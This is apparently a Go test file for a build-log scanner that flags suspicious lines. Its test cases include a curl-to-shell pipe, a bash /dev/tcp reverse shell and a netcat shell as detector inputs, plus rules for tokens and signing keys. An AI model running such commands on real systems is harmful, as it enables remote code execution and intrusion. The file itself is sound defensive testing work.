package hunt_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"testing/iotest"

	"github.com/google/go-cmp/cmp"

	"github.com/weightwarden/weightwarden/internal/finding"
	"github.com/weightwarden/weightwarden/internal/hunt"
)

// place is what the tables below compare of a hit.
type place struct {
	Rule   string
	Line   int
	Offset int64
}

func places(hits []hunt.Hit) []place {
	out := []place{}
	for _, h := range hits {
		out = append(out, place{strings.TrimPrefix(h.Rule, "WW-HUNT-"), h.Line, h.Offset})
	}
	return out
}

func TestScan(t *testing.T) {
	long := strings.Repeat("x", 700_000)
	tests := []struct {
		name, log string
		want      []place
	}{
		{"empty", "", []place{}},
		{"nothing", "all is well\n", []place{}},
		{"pip", "a\nRUN PIP Install torch\n", []place{{"001", 2, 6}}},
		{"curl", "curl http://203.0.113.9/x | sh", []place{{"002", 1, 0}}},
		{"curl_behind_a_letter", "libcurl is there\nxcurl http://x\n", []place{}},
		{"wget", "ok;wget -q x\n", []place{{"003", 1, 3}}},
		{"base64", "echo x | base64 -d\n", []place{{"004", 1, 9}}},
		{"dev_tcp", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", []place{{"005", 1, 11}}},
		{"nc", "/bin/nc -e /bin/sh\n", []place{{"006", 1, 5}}},
		{"sync_is_no_nc", "git submodule sync --recursive\nrsync -a\n--no-trunc --filter\n", []place{}},
		{"nc_in_colours", "\x1b[36;1mnc -l\x1b[0m\n", []place{{"006", 1, 7}}},
		{"nc_behind_a_bracket", "[nc -l] x[1mnc -l\n", []place{{"006", 1, 1}}},
		{"letter_m_is_not_always_a_colour", "[1mnc -l\n", []place{}},
		{"escaped_line_break", `{"cmd":"true\ncurl http://x"}`, []place{{"002", 1, 14}}},
		{"signing_key", "using cosign_key from env\n", []place{{"007", 1, 6}}},
		{"token", "A\nB\nID-TOKEN\n", []place{{"008", 3, 7}}},
		{"one_hit_per_line_and_rule", "token=token\ntoken\n", []place{{"008", 1, 0}, {"008", 2, 12}}},
		{"several_rules_in_one_line", "curl -H token base64", []place{{"002", 1, 0}, {"004", 1, 14}, {"008", 1, 8}}},
		{"crlf", "a\r\ntoken\r\n", []place{{"008", 2, 3}}},
		{"nul_and_invalid_utf8", "\x00\xff\xfe\ntok\x00en\n\x00token\x80\n", []place{{"008", 3, 12}}},
		{"behind_a_long_line", long + "\ntoken\n", []place{{"008", 2, 700_001}}},
		{"in_a_long_line", long + "token" + long + "\nx\ntoken\n", []place{{"008", 1, 700_000}, {"008", 3, 1_400_008}}},
		{"long_line_counts_once", strings.Repeat("token ", 200_000) + "\ntoken", []place{{"008", 1, 0}, {"008", 2, 1_200_001}}},
		{"long_line_at_the_end", long + "token", []place{{"008", 1, 700_000}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := hunt.Scan(t.Context(), "log", strings.NewReader(tt.log), hunt.Limits{})
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, places(got.Findings)); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
			lines := strings.Count(tt.log, "\n")
			if tt.log != "" && !strings.HasSuffix(tt.log, "\n") {
				lines++
			}
			if diff := cmp.Diff([]hunt.File{{Path: "log", Lines: lines, Bytes: int64(len(tt.log))}}, got.Files); diff != "" {
				t.Errorf("files (-want +got):\n%s", diff)
			}
		})
	}
}

// TestScanAtEveryPlace moves each literal over the borders of the buffer.
func TestScanAtEveryPlace(t *testing.T) {
	const buffer = 64 << 10
	for _, rule := range hunt.Rules()[1:] {
		for _, border := range []int{0, buffer - 1024, buffer} {
			for shift := -14; shift <= 2; shift++ {
				at := border + shift
				if at < 0 {
					continue
				}
				log := strings.Repeat(" .", at)[:at] + rule.Literal + strings.Repeat(" .", 50_000)
				got, err := hunt.Scan(t.Context(), "log", strings.NewReader(log), hunt.Limits{Buffer: buffer})
				if err != nil {
					t.Fatal(err)
				}
				want := []place{{strings.TrimPrefix(rule.ID, "WW-HUNT-"), 1, int64(at)}}
				if diff := cmp.Diff(want, places(got.Findings)); diff != "" {
					t.Fatalf("%s at %d (-want +got):\n%s", rule.ID, at, diff)
				}
				if !strings.Contains(got.Findings[0].Text, strings.TrimSpace(rule.Literal)) {
					t.Fatalf("%s at %d: text %q", rule.ID, at, got.Findings[0].Text)
				}
			}
		}
	}
}

func TestScanDoesNotDependOnReads(t *testing.T) {
	var log strings.Builder
	for n := range 3000 {
		fmt.Fprintf(&log, "%d curl http://x | base64 -d %s\n", n, strings.Repeat("y", n%977))
	}
	want, err := hunt.Scan(t.Context(), "log", strings.NewReader(log.String()), hunt.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	for name, r := range map[string]io.Reader{
		"one_byte": iotest.OneByteReader(strings.NewReader(log.String())),
		"data_err": iotest.DataErrReader(strings.NewReader(log.String())),
	} {
		got, err := hunt.Scan(t.Context(), "log", r, hunt.Limits{Buffer: 64 << 10})
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s (-whole +in pieces):\n%s", name, diff)
		}
	}
}

func TestSuppressed(t *testing.T) {
	got, err := hunt.Scan(t.Context(), "log", strings.NewReader(strings.Repeat("token base64\n", 25)), hunt.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Findings) != 20 || got.Suppressed != 30 {
		t.Errorf("%d findings, %d suppressed; want 20 and 30", len(got.Findings), got.Suppressed)
	}
}

func TestText(t *testing.T) {
	long := strings.Repeat("ä ", 5000)
	tests := []struct {
		name, log, want string
	}{
		{"as_it_is", "  a token here", "  a token here"},
		{"without_escapes", "\x1b[31mtoken\x1b[0m \x1b]0;title\x07is\x07 red\x00\u202e", "token is red"},
		{"tab", "\ttoken", " token"},
		{"invalid_utf8", "token \xff.", "token \ufffd."},
		{"carriage_return", "token\r", "token"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := only(t, tt.log).Text; got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
	t.Run("cut_around_the_match", func(t *testing.T) {
		got := only(t, long+"base64"+long).Text
		if n := len([]rune(got)); n > 300 || !strings.Contains(got, "base64") {
			t.Errorf("%d characters: %q", n, got)
		}
	})
}

func only(t *testing.T, log string) hunt.Hit {
	t.Helper()
	got, err := hunt.Scan(t.Context(), "log", strings.NewReader(log), hunt.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Findings) != 1 {
		t.Fatalf("%d findings, want 1", len(got.Findings))
	}
	return got.Findings[0]
}

func TestTime(t *testing.T) {
	for line, want := range map[string]string{
		"2026-11-01T10:00:00.1230000Z token":       "2026-11-01T10:00:00.123Z",
		"2026-11-01T12:00:00+02:00 token":          "2026-11-01T10:00:00Z",
		"[2026-11-01 10:00:00] token":              "2026-11-01T10:00:00Z",
		"2026-11-01 10:00:00,500 INFO token":       "2026-11-01T10:00:00.5Z",
		"token at 2026-11-01T10:00:00Z":            "0001-01-01T00:00:00Z",
		"2026-99-01T10:00:00Z token":               "0001-01-01T00:00:00Z",
		"\x1b[1m2026-11-01T10:00:00Z\x1b[0m token": "2026-11-01T10:00:00Z",
	} {
		if got := only(t, line).Time.Format("2006-01-02T15:04:05.999999999Z07:00"); got != want {
			t.Errorf("%q: %s, want %s", line, got, want)
		}
	}
}

func TestScanStopsWithItsReasons(t *testing.T) {
	broken := errors.New("disk on fire")
	tests := []struct {
		name    string
		ctx     func() context.Context
		r       io.Reader
		err     error
		problem string
		want    int // findings, that of the problem included
	}{
		{"read_error", t.Context, io.MultiReader(strings.NewReader("token\n"), iotest.ErrReader(broken)), broken, "read log: disk on fire", 2},
		{"cancelled", cancelled, strings.NewReader("token\n"), context.Canceled, "context canceled", 1},
		{"gzip", t.Context, strings.NewReader("\x1f\x8b\x08token\n"), hunt.ErrNotText, "not searched: compressed with gzip", 1},
		{"utf16", t.Context, strings.NewReader("\xff\xfet\x00o\x00"), hunt.ErrNotText, "not searched: encoded in UTF-16", 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := hunt.Scan(tt.ctx(), "log", tt.r, hunt.Limits{})
			if !errors.Is(err, tt.err) {
				t.Errorf("error %v, want %v", err, tt.err)
			}
			if len(got.Files) != 1 || got.Files[0].Problem != tt.problem {
				t.Errorf("files %+v, want the problem %q", got.Files, tt.problem)
			}
			if len(got.Findings) != tt.want || got.Findings[0].Rule != hunt.NotSearched {
				t.Errorf("findings %+v", got.Findings)
			}
		})
	}
}

func cancelled() context.Context {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	return ctx
}

func TestScanFiles(t *testing.T) {
	dir := t.TempDir()
	path := func(name string) string { return filepath.Join(dir, name) }
	write(t, path("good.log"), "a\ncurl http://x\n")
	write(t, path("packed.log"), "\x1f\x8b\x08\x00")
	if err := syscall.Mkfifo(path("pipe.log"), 0o600); err != nil {
		t.Fatal(err)
	}
	got := hunt.ScanFiles(t.Context(), []string{path("good.log"), path("gone.log"), dir, path("pipe.log"), path("packed.log")}, hunt.Limits{})
	want := []hunt.File{
		{Path: path("good.log"), Lines: 2, Bytes: 16},
		{Path: path("gone.log"), Problem: "the log does not exist"},
		{Path: dir, Problem: "not a regular file"},
		{Path: path("pipe.log"), Problem: "not a regular file"},
		{Path: path("packed.log"), Problem: "not searched: compressed with gzip"},
	}
	if diff := cmp.Diff(want, got.Files); diff != "" {
		t.Errorf("files (-want +got):\n%s", diff)
	}
	wantHits := []place{{"002", 2, 2}, {"000", 0, -1}, {"000", 0, -1}, {"000", 0, -1}, {"000", 0, -1}}
	if diff := cmp.Diff(wantHits, places(got.Findings)); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
	for _, h := range got.Findings[1:] {
		if h.Severity != finding.High || h.Finding().Verdict != finding.Suspicious {
			t.Errorf("%+v", h)
		}
	}
}

func write(t *testing.T, path, text string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

func TestRules(t *testing.T) {
	seen := map[string]bool{}
	for n, r := range hunt.Rules() {
		if want := fmt.Sprintf("WW-HUNT-%03d", n); r.ID != want || seen[r.ID] {
			t.Errorf("rule %d has id %s, want %s", n, r.ID, want)
		}
		seen[r.ID] = true
		if r.Title == "" || r.Severity == 0 || n > 0 && len(r.Literal) < 3 {
			t.Errorf("rule %s lacks a title, a severity or a literal: %+v", r.ID, r)
		}
	}
}

// TestRealLogs keeps the false alarms on real build logs in sight.
func TestRealLogs(t *testing.T) {
	shared := os.Getenv("WEIGHTWARDEN_SHARED")
	if shared == "" {
		shared = "../../../shared"
	}
	logs, err := filepath.Glob(filepath.Join(shared, "vectors/logs/github-actions/*.txt"))
	if err != nil || len(logs) == 0 {
		t.Skip("no real logs here: set WEIGHTWARDEN_SHARED")
	}
	got := hunt.ScanFiles(t.Context(), logs, hunt.Limits{})
	for _, h := range got.Findings {
		if h.Severity > finding.Low {
			t.Errorf("false alarm: %+v", h)
		}
	}
}

func BenchmarkScan(b *testing.B) {
	var log bytes.Buffer
	for n := 0; log.Len() < 64<<20; n++ {
		fmt.Fprintf(&log, "2026-11-01T10:00:%02d.0000000Z step %d: Downloading torch-2.2.0-cp311-cp311-manylinux1_x86_64.whl (755.5 MB) to the cache\n", n%60, n)
	}
	b.SetBytes(int64(log.Len()))
	for b.Loop() {
		if _, err := hunt.Scan(b.Context(), "log", bytes.NewReader(log.Bytes()), hunt.Limits{}); err != nil {
			b.Fatal(err)
		}
	}
}
